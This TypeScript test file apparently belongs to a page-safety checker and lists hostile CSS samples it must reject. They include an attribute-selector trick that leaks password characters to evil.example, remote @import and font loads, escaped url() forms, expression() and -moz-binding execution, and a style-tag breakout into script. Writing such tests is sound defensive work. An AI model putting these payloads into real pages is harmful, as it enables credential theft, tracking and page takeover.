import type { RuleId } from '../../src/checks/rules-table.ts';
import { type Hostile, inFile, inPage } from './hostile.ts';

const inStyle = (what: string, style: string, reason: RegExp) =>
  inPage(what, `<div style="${style}">a</div>`, 'unsafe-style', reason);
const inSheet = (what: string, css: string, reason: RegExp, line = 1, rule: RuleId = 'unsafe-style') =>
  inFile(what, 'styles/x.css', css, `styles/x.css:${line}`, rule, reason);

const LOADS = /chargerait un fichier d’ailleurs/;

/** Styles that leave their place in the page, load something, or run it. */
export const STYLES: readonly Hostile[] = [
  inStyle('a style that stays on the screen', 'position: fixed', /`position` la valeur « fixed »/),
  inStyle('a style over the page', 'position:absolute;margin:0', /« absolute »/),
  inStyle('a style that sticks', 'position: sticky', /« sticky »/),
  inStyle('a place written with an escape', 'p\\6fsition: fixed', /./),
  inStyle('a place behind a comment', 'position:/**/fixed', /« fixed »/),
  inStyle('a place that a variable holds', '--x: fixed; position: relative', /`--x`/),
  inStyle('a place far from its own', 'left: 400px', /`left` la valeur « 400px »/),
  inStyle('a layer above the menus', 'z-index: 2147483647', /`z-index`/),
  inStyle('a margin that goes over the header', 'margin-top: -2000px', /`margin-top` la valeur « -2000px »/),
  inStyle('a margin that is calculated', 'margin-top: calc(0px - 100vh)', /« calc\(…\) »/),
  inStyle('a shadow that covers the page', 'box-shadow: 0 0 0 9999px red', /`box-shadow`/),
  inStyle('an outline that covers the page', 'outline: 9999px solid red', /`outline`/),
  inStyle('a piece that is moved', 'transform: translateY(-1000px)', /`transform`/),
  inStyle('a piece of enormous width', 'width: 99999px', /`width`/),
  inStyle('a picture of another site', 'background: url(https://evil.example/x.png)', /url\(https:\/\/evil/),
  inStyle('a picture of another site, without its scheme', 'background-image: url(//evil.example/x)', /url\(\/\/evil/),
  inStyle('a style that runs in old browsers', 'width: expression(alert(1))', /expression/),
  inStyle('a style that is bound to a program', '-moz-binding: url(https://evil.example/x.xml#a)', /`-moz-binding`/),
  inStyle('a whole rule', 'color: red } body { display: none', /./),
  inSheet('another sheet', '@import url("https://evil.example/x.css");', /@import/),
  inSheet('another sheet, with an escape', '\n@\\69mport "https://evil.example/x.css";', /./, 2),
  inSheet('a picture of another site', '.a {\n  background: url(https://evil.example/x.png);\n}', LOADS, 2),
  inSheet('a picture of another site, with an escape', '.a { background: \\75rl(https://evil.example/x.png) }', /./),
  inSheet('a picture without its scheme', '.a { background: url("//evil.example/x.png") }', LOADS),
  inSheet('a picture behind backslashes', '.a { background: url("\\\\\\\\evil.example/x.png") }', LOADS),
  inSheet('a set of pictures', '.a { background: image-set("https://evil.example/x.png" 1x) }', LOADS),
  inSheet('a picture in its own address', '.a { background: url(data:image/svg+xml,x) }', LOADS),
  inSheet('a picture that a variable holds', ':root { --x: url(https://evil.example/x.png) }', LOADS),
  inSheet(
    'a font of another site',
    '@font-face {\n  font-family: x;\n  src: url(https://evil.example/x.woff2);\n}',
    LOADS,
    3,
  ),
  inSheet(
    'passwords read by their first letter',
    'input[value^="a"] { background: url(https://evil.example/a) }',
    LOADS,
  ),
  inSheet('an expression', '.a { width: expression(alert(1)) }', /lancerait un programme/),
  inSheet('a behaviour', '.a { behavior: url(/x.htc) }', /lancerait un programme/),
  inSheet('a binding', '.a { -moz-binding: url(/x.xml#a) }', /lancerait un programme/),
  inSheet('a page after the sheet', '.a {}\n</style><script>alert(1)</script>', /./, 2),
  inSheet('braces that never close', 'a{'.repeat(50_000), /les unes dans les autres/),
  inSheet('a rule for one browser', '@-moz-document url-prefix() { a { color: red } }', /@-moz-document/),
];
